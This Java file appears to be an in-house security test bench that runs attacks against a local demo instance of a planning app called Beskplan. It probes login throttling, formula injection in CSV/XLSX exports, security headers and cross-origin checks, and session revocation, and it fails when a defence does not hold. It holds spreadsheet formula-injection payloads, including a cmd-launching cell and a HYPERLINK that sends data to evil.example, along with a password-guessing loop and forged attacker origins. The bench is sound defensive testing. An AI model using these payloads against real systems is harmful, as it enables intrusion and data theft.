import io.micronaut.json.JsonMapper;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.CookieManager;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

/**
 * (Kept whole on purpose: the launcher runs a bench as one source file, so its HTTP client repeats Worst.java's, and
 * its CSV reader reads the app's exports the way a spreadsheet does, independent of the app's own IndicatorCsv.)
 * <p>
 * Issue 15, tried as an attacker would (docs/security.md, "Attacker run"; bench/run-attack.sh): against a running
 * Beskplan with demo data it tries and counts
 * <ol>
 * <li>(finding 1) 50 wrong passwords for a demo user from one address, then the owner's login from another address;
 * the status and time of answers to an unknown user, a wrong password and a throttled attempt;</li>
 * <li>(finding 3) status reports whose comment and data source begin with {@code = + - @}, tab or CR, then the CSV
 * and XLSX exports: cells that would be live formulas;</li>
 * <li>(finding 5) pages, API answers, documents, static files and errors: responses missing each required header;
 * state-changing requests with a foreign origin that get past the origin check;</li>
 * <li>(finding 7) one user logged in 8 times: live sessions; "log the others out"; a calendar feed after its owner
 * lost the manager role (and after the role came back).</li>
 * </ol>
 * Finding 2 (costs) is measured by bench/run-worst.sh. Prints a table of counts; exits 1 when a count expected to be 0
 * is not.
 * <p>
 * {@code java -cp modules/app/target/beskplan.jar bench/Attack.java URL}
 */
public class Attack {
    static final JsonMapper JSON = JsonMapper.createDefault();
    static final String PASSWORD = "demo-adgangskode-2026";
    static final String EVIL = "https://beskplan.evil.example";

    final String base;
    final int port;
    /** The summary: what was counted, the count, and the expected value (null: for information). */
    final List<Object[]> rows = new ArrayList<>();

    Attack(String base) {
        this.base = base;
        this.port = URI.create(base).getPort();
    }

    public static void main(String[] args) throws Exception {
        Attack attack = new Attack(args[0]);
        int pages = args.length > 1 ? Integer.parseInt(args[1]) : 300;
        attack.section("1", attack::logins);
        attack.section("3", attack::formulas);
        attack.section("5", () -> attack.headersAndOrigins(pages));
        attack.section("7", attack::sessionsAndFeeds);
        System.out.println();
        System.out.println("finding 2 (costs): the worst request of each kind and its memory are measured by bench/run-worst.sh");
        System.exit(attack.summary() ? 0 : 1);
    }

    interface Part {
        void run() throws Exception;
    }

    /** One finding's part; if it breaks off, that is counted (expected 0) and the others still run. */
    void section(String finding, Part part) {
        try {
            part.run();
        } catch (Exception | AssertionError e) {
            e.printStackTrace();
            count(finding + ": the run of this finding broke off (" + e.getClass().getSimpleName() + ")", 1, 0L);
        }
    }

    void count(String what, long count, Long expected) {
        rows.add(new Object[]{what, count, expected});
        System.err.printf("[attack] %-86s %6d%n", what, count);
    }

    boolean summary() {
        System.out.println();
        System.out.printf("%-90s %7s %9s%n", "count", "found", "expected");
        boolean ok = true;
        for (Object[] r : rows) {
            Long expected = (Long) r[2];
            boolean bad = expected != null && expected == 0 && (long) r[1] != 0;
            ok &= !bad;
            System.out.printf("%-90s %7d %9s%s%n", r[0], (long) r[1], expected == null ? "" : expected.toString(), bad ? "  FAILED" : "");
        }
        System.out.println(ok ? "every count expected to be 0 is 0" : "SOME COUNTS EXPECTED TO BE 0 ARE NOT");
        return ok;
    }

    // ---------------------------------------------------------------------------------------------------------
    // Finding 1: lock-out and enumeration

    void logins() {
        System.out.println("== finding 1: login throttling per (account, address)");
        String victim = "holbaek.laeser";
        List<Long> unknown = new ArrayList<>(), wrong = new ArrayList<>(), throttled = new ArrayList<>();
        Map<String, Map<Integer, Integer>> statuses = new LinkedHashMap<>();
        // Unknown users and first wrong passwords from fresh addresses (below every limit), to compare with.
        for (int i = 0; i < 10; i++) {
            timed(statuses, "unknown user", unknown, "127.0.1." + (10 + i), "nobody.holbaek" + i, "forkert-adgangskode-" + i);
            timed(statuses, "wrong password (not throttled)", wrong, "127.0.2." + (10 + i), victim, "forkert-adgangskode-" + i);
        }
        // The attacker: 50 wrong passwords for the victim from one address.
        String attacker = "127.0.0.2";
        List<Long> attack = new ArrayList<>();
        for (int i = 0; i < 50; i++) {
            RawHttp r = login(attacker, victim, "gaet-" + i + "-adgangskode");
            statuses.computeIfAbsent("attacker's 50 guesses", k -> new TreeMap<>()).merge(r.status, 1, Integer::sum);
            attack.add(r.millis);
        }
        // Throttled by now: more guesses from the attacker's address.
        for (int i = 0; i < 10; i++) {
            timed(statuses, "throttled (attacker's address, after 50)", throttled, attacker, victim, "endnu-et-gaet-" + i);
        }
        RawHttp rightFromAttacker = login(attacker, victim, PASSWORD);
        RawHttp owner = login("127.0.0.3", victim, PASSWORD);
        System.out.printf("%-44s %8s %s%n", "answers", "mean ms", "statuses");
        print("unknown user", unknown, statuses);
        print("wrong password (not throttled)", wrong, statuses);
        print("attacker's 50 guesses", attack, statuses);
        print("throttled (attacker's address, after 50)", throttled, statuses);
        System.out.printf("right password from the attacker's address: %d (throttled, answered alike); the owner from 127.0.0.3: %d%n",
                rightFromAttacker.status, owner.status);
        count("1: the owner's login from another address after 50 guesses refused (0/1)", owner.status == 200 ? 0 : 1, 0L);
        Set<Integer> refusals = new LinkedHashSet<>();
        statuses.values().forEach(m -> refusals.addAll(m.keySet()));
        refusals.add(rightFromAttacker.status);
        count("1: distinct statuses of unknown, wrong and throttled answers (all 401)", refusals.size(), 1L);
        count("1: refusals with a status other than 401", refusals.stream().filter(s -> s != 401).count(), 0L);
        count("1: mean ms unknown user", mean(unknown), null);
        count("1: mean ms wrong password", mean(wrong), null);
        count("1: mean ms throttled", mean(throttled), null);
    }

    void timed(Map<String, Map<Integer, Integer>> statuses, String kind, List<Long> times, String from, String user, String password) {
        RawHttp r = login(from, user, password);
        statuses.computeIfAbsent(kind, k -> new TreeMap<>()).merge(r.status, 1, Integer::sum);
        times.add(r.millis);
    }

    static void print(String kind, List<Long> times, Map<String, Map<Integer, Integer>> statuses) {
        System.out.printf("%-44s %8d %s%n", kind, mean(times), statuses.get(kind));
    }

    static long mean(List<Long> times) {
        return Math.round(times.stream().mapToLong(Long::longValue).average().orElse(0));
    }

    RawHttp login(String from, String username, String password) {
        String json = "{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}";
        return RawHttp.send(from, port, "POST", "/api/login", json,
                Map.of("Content-Type", "application/json", "Accept", "application/json", "Host", "127.0.0.1:" + port));
    }

    // ---------------------------------------------------------------------------------------------------------
    // Finding 3: formula injection in exports

    static final String[] PAYLOADS = {"=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Klik her\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"};

    void formulas() throws Exception {
        System.out.println("== finding 3: formula injection in CSV and XLSX exports");
        Client official = new Client("holbaek.embedsmand");
        // Open tasks are the goals' managers' (the demo's); each reports on their own, as the API allows.
        List<Object[]> tasks = new ArrayList<>();
        for (String name : List.of("holbaek.leder", "holbaek.leder2")) {
            try {
                Client owner = new Client(name);
                for (Map<String, Object> t : list(owner.send("GET", "/api/followup/tasks", null, null).body())) {
                    tasks.add(new Object[]{owner, t});
                }
            } catch (IllegalStateException e) {
                System.out.println("not used: " + e.getMessage().substring(0, Math.min(80, e.getMessage().length())));
            }
        }
        int written = 0, refused = 0;
        Set<String> plans = new LinkedHashSet<>();
        for (int i = 0; i < tasks.size() && i < PAYLOADS.length; i++) {
            Client reporter = (Client) tasks.get(i)[0];
            @SuppressWarnings("unchecked")
            Map<String, Object> task = (Map<String, Object>) tasks.get(i)[1];
            String id = (String) task.get("id");
            HttpResponse<String> current = reporter.send("GET", "/api/followup/tasks/" + id, null, null);
            String etag = current.headers().firstValue("ETag").orElse("\"0\"");
            Map<String, Object> input = new LinkedHashMap<>();
            input.put("value", -12.5); // a negative number must stay a number
            input.put("measuredOn", "2026-11-30");
            input.put("comment", PAYLOADS[i]);
            input.put("dataSource", PAYLOADS[(i + 1) % PAYLOADS.length]);
            HttpResponse<String> r = reporter.send("PUT", "/api/followup/tasks/" + id + "/report", JSON.writeValueAsString(input), etag);
            if (r.statusCode() == 200) {
                written++;
                plans.add((String) task.get("planId"));
            } else {
                refused++;
                System.out.println("report refused: " + r.statusCode() + " " + r.body().substring(0, Math.min(200, r.body().length())));
            }
        }
        if (plans.isEmpty()) {
            // No open task: export the plans in follow-up anyway (the demo's reports hold ordinary text).
            for (Map<String, Object> p : list(official.send("GET", "/api/followup/plans", null, null).body())) {
                plans.add((String) (p.containsKey("planId") ? p.get("planId") : p.get("id")));
            }
        }
        int csvCells = 0, csvLive = 0, csvNegative = 0, xlsxCells = 0, xlsxFormulas = 0, xlsxText = 0, exports = 0, payloadsSeen = 0;
        for (String plan : plans) {
            for (String path : List.of("/api/followup/plans/" + plan + "/overview.csv", "/followup/planer/" + plan + "/oversigt.csv")) {
                HttpResponse<byte[]> r = official.bytes(path);
                if (r.statusCode() != 200) {
                    System.out.println(path + ": " + r.statusCode());
                    continue;
                }
                exports++;
                for (List<String> row : csv(new String(r.body(), StandardCharsets.UTF_8))) {
                    for (String cell : row) {
                        csvCells++;
                        if (NUMBER.matcher(cell).matches()) {
                            csvNegative += cell.startsWith("-") ? 1 : 0;
                        } else if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                            csvLive++;
                        }
                        payloadsSeen += cell.contains("cmd|") || cell.contains("HYPERLINK") ? 1 : 0;
                    }
                }
            }
            for (String path : List.of("/api/followup/plans/" + plan + "/overview.xlsx", "/followup/planer/" + plan + "/oversigt.xlsx")) {
                HttpResponse<byte[]> r = official.bytes(path);
                if (r.statusCode() != 200) {
                    System.out.println(path + ": " + r.statusCode());
                    continue;
                }
                exports++;
                Map<String, String> parts = unzip(r.body());
                List<String> shared = texts(parts.getOrDefault("xl/sharedStrings.xml", ""), "<si>", "</si>");
                for (Map.Entry<String, String> part : parts.entrySet()) {
                    if (!part.getKey().startsWith("xl/worksheets/")) {
                        continue;
                    }
                    Matcher c = CELL.matcher(part.getValue());
                    while (c.find()) {
                        xlsxCells++;
                        String attributes = c.group(1), body = c.group(2) == null ? "" : c.group(2);
                        if (body.contains("<f>") || body.contains("<f ")) {
                            xlsxFormulas++;
                        }
                        String text = null;
                        if (attributes.contains("t=\"s\"")) {
                            Matcher v = Pattern.compile("<v>(\\d+)</v>").matcher(body);
                            text = v.find() ? shared.get(Integer.parseInt(v.group(1))) : null;
                        } else if (attributes.contains("t=\"inlineStr\"") || attributes.contains("t=\"str\"")) {
                            text = String.join("", texts(body, "<t", "</t>"));
                        }
                        if (text != null) {
                            text = unescape(text);
                            payloadsSeen += text.contains("cmd|") || text.contains("HYPERLINK") ? 1 : 0;
                            if (!text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0) {
                                xlsxText++;
                            }
                        }
                    }
                }
            }
        }
        System.out.printf("status reports written with payloads: %d (refused %d); exports read: %d; CSV cells %d (negative numbers %d), XLSX cells %d; cells holding a payload: %d%n",
                written, refused, exports, csvCells, csvNegative, xlsxCells, payloadsSeen);
        count("3: status reports written with = + - @ tab CR payloads (comment, data source)", written, null);
        count("3: export cells that hold a payload", payloadsSeen, null);
        count("3: CSV cells that would be live formulas (text starting = + - @ tab CR)", csvLive, 0L);
        count("3: XLSX cells with a formula (<f>)", xlsxFormulas, 0L);
        count("3: XLSX text cells starting = + - @ tab CR", xlsxText, 0L);
        count("3: negative numbers in the CSV that stayed numbers", csvNegative, null);
    }

    static final Pattern NUMBER = Pattern.compile("-?\\d+(,\\d+)?");
    static final Pattern CELL = Pattern.compile("<c\\b([^>]*?)(?:/>|>(.*?)</c>)", Pattern.DOTALL);

    static String unescape(String xml) {
        return xml.replaceAll("<[^>]+>", "").replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"")
                .replace("&apos;", "'").replace("&#13;", "\r").replace("&#9;", "\t").replace("&#10;", "\n")
                .replace("_x000D_", "\r").replace("_x0009_", "\t").replace("&amp;", "&");
    }

    /** The contents between each open and close marker (open may be a prefix such as "<t"; its tag is skipped). */
    static List<String> texts(String xml, String open, String close) {
        List<String> out = new ArrayList<>();
        int at = 0;
        while ((at = xml.indexOf(open, at)) >= 0) {
            int start = xml.indexOf('>', at) + 1;
            int end = xml.indexOf(close, start);
            if (end < 0 || (open.equals("<t") && xml.charAt(at + 2) != '>' && xml.charAt(at + 2) != ' ')) {
                at = at + open.length();
                continue;
            }
            out.add(xml.substring(start, end));
            at = end + close.length();
        }
        return out;
    }

    /** The parts of a workbook, read by its central directory (ZipInputStream refuses entries with data descriptors). */
    static Map<String, String> unzip(byte[] zip) throws IOException {
        Map<String, String> parts = new LinkedHashMap<>();
        java.nio.file.Path file = java.nio.file.Files.createTempFile("attack-", ".xlsx");
        try {
            java.nio.file.Files.write(file, zip);
            try (ZipFile z = new ZipFile(file.toFile())) {
                for (ZipEntry e : java.util.Collections.list(z.entries())) {
                    try (InputStream in = z.getInputStream(e)) {
                        parts.put(e.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
                    }
                }
            }
        } finally {
            java.nio.file.Files.deleteIfExists(file);
        }
        return parts;
    }

    /** RFC 4180 with ';' as separator (Danish Excel). */
    static List<List<String>> csv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char ch = text.charAt(i);
            if (quoted) {
                if (ch == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (ch == '"') {
                    quoted = false;
                } else {
                    cell.append(ch);
                }
            } else if (ch == '"' && cell.isEmpty()) {
                quoted = true;
            } else if (ch == ';') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (ch == '\n' || (ch == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n')) {
                if (ch == '\r') {
                    i++;
                }
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
            } else {
                cell.append(ch);
            }
        }
        if (!cell.isEmpty() || !row.isEmpty()) {
            row.add(cell.toString());
            rows.add(row);
        }
        // The byte order mark, if any, belongs to no cell.
        if (!rows.isEmpty() && !rows.get(0).isEmpty() && rows.get(0).get(0).startsWith("\uFEFF")) {
            rows.get(0).set(0, rows.get(0).get(0).substring(1));
        }
        return rows;
    }

    // ---------------------------------------------------------------------------------------------------------
    // Finding 5: headers and origins

    static final Pattern LINK = Pattern.compile("(?:href|src|action)=\"(/[^\"#]*)\"");

    void headersAndOrigins(int pages) throws Exception {
        System.out.println("== finding 5: security headers and origin checks");
        Map<String, Integer> missing = new LinkedHashMap<>();
        for (String h : List.of("Content-Security-Policy", "X-Frame-Options or frame-ancestors", "X-Content-Type-Options: nosniff",
                "Referrer-Policy", "Cache-Control: no-store (signed in, not static)")) {
            missing.put(h, 0);
        }
        Map<String, Integer> byKind = new TreeMap<>();
        int checked = 0;
        List<Client> clients = new ArrayList<>();
        clients.add(new Client(null));
        for (String user : List.of("holbaek.embedsmand", "holbaek.sekretaer", "holbaek.leder", "holbaek.laeser", "holbaek.admin", "admin")) {
            clients.add(new Client(user));
        }
        Set<String> missingExamples = new LinkedHashSet<>();
        for (Client client : clients) {
            Deque<String> queue = new ArrayDeque<>(List.of("/", "/login", "/offentlig", "/health", "/ingen-side", "/api/ingen",
                    "/api/plans", "/api/plans/ikke-et-id", "/api/plans/00000000-0000-0000-0000-000000000000", "/api/me/profile",
                    "/api/me/sessions", "/api/followup/plans", "/api/followup/tasks", "/api/approval/meetings", "/api/approval/inbox",
                    "/api/admin/users", "/static/beskplan.js", "/favicon.ico", "/planer/ikke-et-id", "/api/plans/%E2%80%AE"));
            Set<String> seen = new LinkedHashSet<>(queue);
            int budget = pages / clients.size();
            while (!queue.isEmpty() && budget-- > 0) {
                String path = queue.poll();
                HttpResponse<byte[]> r;
                try {
                    r = client.get(path);
                } catch (IllegalArgumentException notAUri) {
                    continue; // a link java.net.http cannot send as it stands
                }
                checked++;
                String type = r.headers().firstValue("Content-Type").orElse("").toLowerCase(Locale.ROOT);
                String kind = r.statusCode() >= 400 ? "error " + r.statusCode() : path.startsWith("/static/") || path.startsWith("/webjars/")
                        || path.startsWith("/favicon") ? "static file" : type.contains("json") ? "API answer"
                        : type.contains("text/html") && !path.contains("/document") && !path.contains("/report") && !path.contains("protokol")
                        ? "page" : r.statusCode() >= 300 ? "redirect" : "document (" + type.replaceAll(";.*", "") + ")";
                byKind.merge(kind, 1, Integer::sum);
                String csp = r.headers().firstValue("Content-Security-Policy").orElse("");
                List<String> lacking = new ArrayList<>();
                if (csp.isEmpty()) {
                    lacking.add("Content-Security-Policy");
                }
                if (!r.headers().firstValue("X-Frame-Options").orElse("").equalsIgnoreCase("DENY") && !csp.contains("frame-ancestors")) {
                    lacking.add("X-Frame-Options or frame-ancestors");
                }
                if (!r.headers().firstValue("X-Content-Type-Options").orElse("").equalsIgnoreCase("nosniff")) {
                    lacking.add("X-Content-Type-Options: nosniff");
                }
                if (r.headers().firstValue("Referrer-Policy").isEmpty()) {
                    lacking.add("Referrer-Policy");
                }
                boolean isStatic = kind.equals("static file");
                if (client.user != null && !isStatic && !r.headers().firstValue("Cache-Control").orElse("").contains("no-store")) {
                    lacking.add("Cache-Control: no-store (signed in, not static)");
                }
                for (String l : lacking) {
                    missing.merge(l, 1, Integer::sum);
                    if (missingExamples.size() < 12) {
                        missingExamples.add(l + ": " + r.statusCode() + " " + path + " (" + (client.user == null ? "anonymous" : client.user) + ")");
                    }
                }
                if (type.contains("text/html") && r.statusCode() == 200) {
                    Matcher m = LINK.matcher(new String(r.body(), StandardCharsets.UTF_8));
                    while (m.find()) {
                        String link = m.group(1).replace("&amp;", "&");
                        if (!link.startsWith("//") && !link.contains("logout") && !link.contains("log-ud") && !link.endsWith(".ics")
                                && seen.add(link)) {
                            queue.add(link);
                        }
                    }
                }
                r.headers().firstValue("Location").filter(l -> l.startsWith("/") && !l.startsWith("//")).filter(seen::add).ifPresent(queue::add);
            }
        }
        System.out.println("responses checked: " + checked + " " + byKind);
        missingExamples.forEach(e -> System.out.println("  missing " + e));
        count("5: responses checked (pages, API answers, documents, static files, errors)", checked, null);
        for (Map.Entry<String, Integer> e : missing.entrySet()) {
            count("5: responses without " + e.getKey(), e.getValue(), 0L);
        }

        // State-changing requests that carry a valid session and CSRF token but come from elsewhere.
        int sent = 0, accepted = 0;
        Map<String, Integer> answers = new TreeMap<>();
        Map<String, Integer> control = new TreeMap<>();
        List<String> origins = new ArrayList<>(List.of("Origin: " + EVIL, "Origin: null", "Origin: " + base + ".evil.example",
                "Origin: http://127.0.0.1:" + (port + 1), "Referer: " + EVIL + "/side"));
        origins.add("own Origin (control)");
        Client official = new Client("holbaek.embedsmand");
        Client manager = new Client("holbaek.leder");
        String profile = official.send("GET", "/api/me/profile", null, null).body();
        Map<String, Object> me = map(profile);
        List<Map<String, Object>> tasks = list(official.send("GET", "/api/followup/tasks", null, null).body());
        String task = tasks.isEmpty() ? "00000000-0000-0000-0000-000000000000" : (String) tasks.get(0).get("id");
        for (String origin : origins) {
            List<Object[]> requests = new ArrayList<>();
            Client anonymous = new Client(null);
            requests.add(new Object[]{anonymous, "POST", "/api/login", "application/json",
                    "{\"username\":\"holbaek.laeser\",\"password\":\"" + PASSWORD + "\"}"});
            requests.add(new Object[]{anonymous, "POST", "/login", "application/x-www-form-urlencoded",
                    "username=holbaek.laeser&password=" + PASSWORD});
            requests.add(new Object[]{official, "PUT", "/api/me/profile", "application/json", JSON.writeValueAsString(Map.of(
                    "displayName", "Overtaget", "email", String.valueOf(me.get("email")), "version", me.getOrDefault("version", 0)))});
            requests.add(new Object[]{official, "POST", "/api/plans", "application/json",
                    "{\"title\":\"Fremmed plan\",\"fromYear\":2031,\"toYear\":2031,\"committeeName\":\"Udvalget\"}"});
            requests.add(new Object[]{official, "PUT", "/api/followup/tasks/" + task + "/report", "application/json",
                    "{\"comment\":\"fra et fremmed sted\"}"});
            requests.add(new Object[]{official, "DELETE", "/api/me/sessions", null, null});
            requests.add(new Object[]{manager, "POST", "/followup/opgaver/kalender", "application/x-www-form-urlencoded", "_csrf=" + manager.csrf});
            requests.add(new Object[]{official, "PUT", "/api/me/password", "application/json",
                    "{\"currentPassword\":\"" + PASSWORD + "\",\"newPassword\":\"en helt anden lang adgangskode\",\"repeatPassword\":\"en helt anden lang adgangskode\"}"});
            for (Object[] q : requests) {
                Client c = (Client) q[0];
                String method = (String) q[1], path = (String) q[2];
                if (origin.startsWith("own") && path.equals("/api/me/password")) {
                    continue; // the control would change the password
                }
                HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(60))
                        .header("Accept", "application/json").header("X-CSRF-Token", c.csrf)
                        .method(method, q[4] == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString((String) q[4]));
                if (q[3] != null) {
                    b.header("Content-Type", (String) q[3]);
                }
                if (origin.startsWith("own")) {
                    b.header("Origin", base);
                } else {
                    int colon = origin.indexOf(": ");
                    b.header(origin.substring(0, colon), origin.substring(colon + 2));
                }
                HttpResponse<String> r = c.http.send(b.build(), HttpResponse.BodyHandlers.ofString());
                String key = method + " " + path.replaceAll("[0-9a-f-]{36}", "{id}") + " " + r.statusCode();
                if (origin.startsWith("own")) {
                    control.merge(key, 1, Integer::sum);
                } else {
                    sent++;
                    answers.merge(r.statusCode() + "", 1, Integer::sum);
                    if (r.statusCode() != 403) {
                        accepted++;
                        System.out.println("  accepted from " + origin + ": " + key);
                    }
                }
            }
        }
        System.out.println("foreign-origin requests: " + sent + ", statuses " + answers);
        System.out.println("the same with our own Origin (control; not 403 means the origin check was what refused): " + control);
        count("5: state-changing requests with a foreign, null or look-alike Origin or foreign Referer", sent, null);
        count("5: of those, accepted (anything but 403)", accepted, 0L);
    }

    // ---------------------------------------------------------------------------------------------------------
    // Finding 7: sessions and tokens

    void sessionsAndFeeds() throws Exception {
        System.out.println("== finding 7: sessions per user, ending them, the calendar feed and the manager role");
        List<Client> logins = new ArrayList<>();
        for (int i = 0; i < 8; i++) {
            logins.add(new Client("holbaek.sekretaer"));
        }
        Client last = logins.get(logins.size() - 1);
        int listed = list(last.send("GET", "/api/me/sessions", null, null).body()).size();
        int alive = 0;
        for (Client c : logins) {
            alive += c.send("GET", "/api/me/profile", null, null).statusCode() == 200 ? 1 : 0;
        }
        System.out.printf("8 logins of holbaek.sekretaer: %d sessions listed, %d still answered%n", listed, alive);
        count("7: live sessions after 8 logins of one user (listed by /api/me/sessions)", listed, 5L);
        count("7: of the 8 clients, those still signed in", alive, 5L);
        count("7: sessions beyond the cap of 5", Math.max(0, alive - 5) + Math.max(0, listed - 5), 0L);
        HttpResponse<String> ended = last.send("DELETE", "/api/me/sessions", null, null);
        int aliveAfter = 0;
        for (Client c : logins.subList(0, logins.size() - 1)) {
            aliveAfter += c.send("GET", "/api/me/profile", null, null).statusCode() == 200 ? 1 : 0;
        }
        boolean lastAlive = last.send("GET", "/api/me/profile", null, null).statusCode() == 200;
        System.out.printf("\"log the others out\": %d %s; other clients still signed in: %d; the one asking: %s%n",
                ended.statusCode(), ended.body(), aliveAfter, lastAlive ? "signed in" : "signed out");
        count("7: other sessions still signed in after \"log the others out\"", aliveAfter, 0L);

        // A manager's calendar feed, then the local administrator takes the manager role away.
        String managerName = "holbaek.leder";
        Client manager = new Client(managerName);
        HttpResponse<String> page = manager.form("/followup/opgaver/kalender", "_csrf=" + URLEncoder.encode(manager.csrf, StandardCharsets.UTF_8));
        Matcher feed = Pattern.compile("(/followup/kalender/[A-Za-z0-9_-]+\\.ics)").matcher(page.body());
        if (!feed.find()) {
            System.out.println("no calendar address: " + page.statusCode());
            count("7: calendar address obtained (0/1)", 0, null);
            return;
        }
        String ics = feed.group(1);
        Client nobody = new Client(null);
        int before = nobody.get(ics).statusCode();
        Client localAdmin = new Client("holbaek.admin");
        HttpResponse<String> user = localAdmin.send("GET", "/api/admin/users/" + managerName, null, null);
        Map<String, Object> account = map(user.body());
        List<?> roles = (List<?>) account.get("roles");
        Object version = account.get("version");
        HttpResponse<String> demoted = localAdmin.send("PUT", "/api/admin/users/" + managerName + "/roles",
                JSON.writeValueAsString(Map.of("roles", List.of("READER"), "version", version)), null);
        int after = 0;
        for (int i = 0; i < 10; i++) {
            after += nobody.get(ics).statusCode() == 200 ? 1 : 0;
        }
        Thread.sleep(3000); // the role change travels to follow-up as a message
        Map<String, Object> now = map(localAdmin.send("GET", "/api/admin/users/" + managerName, null, null).body());
        HttpResponse<String> restored = localAdmin.send("PUT", "/api/admin/users/" + managerName + "/roles",
                JSON.writeValueAsString(Map.of("roles", roles, "version", now.get("version"))), null);
        int revived = 0;
        for (int i = 0; i < 10; i++) {
            revived += nobody.get(ics).statusCode() == 200 ? 1 : 0;
        }
        System.out.printf("calendar feed before: %d; role change %s -> [READER]: %d; feed 200 after: %d of 10; role restored: %d; feed 200 after that: %d of 10%n",
                before, roles, demoted.statusCode(), after, restored.statusCode(), revived);
        count("7: calendar feed answered 200 before the role was taken (0/1)", before == 200 ? 1 : 0, 1L);
        count("7: calendar-feed answers still 200 after the manager role was taken (of 10)", after, 0L);
        count("7: calendar-feed answers 200 after the role came back (old address, of 10)", revived, 0L);
    }

    // ---------------------------------------------------------------------------------------------------------

    @SuppressWarnings("unchecked")
    static Map<String, Object> map(String json) throws IOException {
        return JSON.readValue(json, Map.class);
    }

    @SuppressWarnings("unchecked")
    static List<Map<String, Object>> list(String json) throws IOException {
        Object o = JSON.readValue(json, Object.class);
        return o instanceof List<?> l ? (List<Map<String, Object>>) l : List.of();
    }

    /** A signed-in user (or anonymous) with its own cookies; sends our own Origin unless told otherwise. */
    final class Client {
        final String user;
        final HttpClient http = HttpClient.newBuilder().cookieHandler(new CookieManager())
                .connectTimeout(Duration.ofSeconds(10)).followRedirects(HttpClient.Redirect.NEVER).build();
        String csrf = "";

        Client(String user) throws Exception {
            this.user = user;
            if (user != null) {
                HttpResponse<String> r = send("POST", "/api/login", "{\"username\":\"" + user + "\",\"password\":\"" + PASSWORD + "\"}", null);
                if (r.statusCode() != 200) {
                    throw new IllegalStateException("login " + user + ": " + r.statusCode() + " " + r.body());
                }
                csrf = (String) map(r.body()).get("csrfToken");
            }
        }

        HttpResponse<String> send(String method, String path, String body, String ifMatch) throws Exception {
            HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(120))
                    .header("Accept", "application/json").header("X-CSRF-Token", csrf).header("Origin", base)
                    .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
            if (body != null) {
                b.header("Content-Type", "application/json");
            }
            if (ifMatch != null) {
                b.header("If-Match", ifMatch);
            }
            return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<String> form(String path, String body) throws Exception {
            return http.send(HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(60)).header("Origin", base)
                    .header("Content-Type", "application/x-www-form-urlencoded").header("Accept", "text/html")
                    .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<byte[]> get(String path) throws Exception {
            return http.send(HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(120))
                    .header("Accept", path.startsWith("/api/") ? "application/json" : "text/html,*/*").GET().build(), HttpResponse.BodyHandlers.ofByteArray());
        }

        HttpResponse<byte[]> bytes(String path) throws Exception {
            return http.send(HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(120)).header("Accept", "*/*").GET().build(),
                    HttpResponse.BodyHandlers.ofByteArray());
        }
    }

    /**
     * HTTP/1.1 by hand over a socket bound to a chosen loopback address (127.0.0.x), so the server sees that address
     * as the client (java.net.http cannot bind one); as modules/app/src/test/.../RawHttp.java.
     */
    record RawHttp(int status, long millis) {
        static RawHttp send(String from, int port, String method, String path, String body, Map<String, String> headers) {
            byte[] content = body.getBytes(StandardCharsets.UTF_8);
            StringBuilder request = new StringBuilder(method + " " + path + " HTTP/1.1\r\n");
            headers.forEach((k, v) -> request.append(k).append(": ").append(v).append("\r\n"));
            request.append("Content-Length: ").append(content.length).append("\r\nConnection: close\r\n\r\n");
            long started = System.nanoTime();
            try (Socket socket = new Socket()) {
                socket.bind(new InetSocketAddress(from, 0));
                socket.connect(new InetSocketAddress("127.0.0.1", port), 5000);
                socket.setSoTimeout(60_000);
                OutputStream out = socket.getOutputStream();
                out.write(request.toString().getBytes(StandardCharsets.ISO_8859_1));
                out.write(content);
                out.flush();
                InputStream in = socket.getInputStream();
                ByteArrayOutputStream all = new ByteArrayOutputStream();
                in.transferTo(all);
                String text = all.toString(StandardCharsets.ISO_8859_1);
                return new RawHttp(Integer.parseInt(text.substring(9, 12)), (System.nanoTime() - started) / 1_000_000);
            } catch (IOException e) {
                throw new IllegalStateException(method + " " + path + " from " + from + " failed: " + e, e);
            }
        }
    }
}
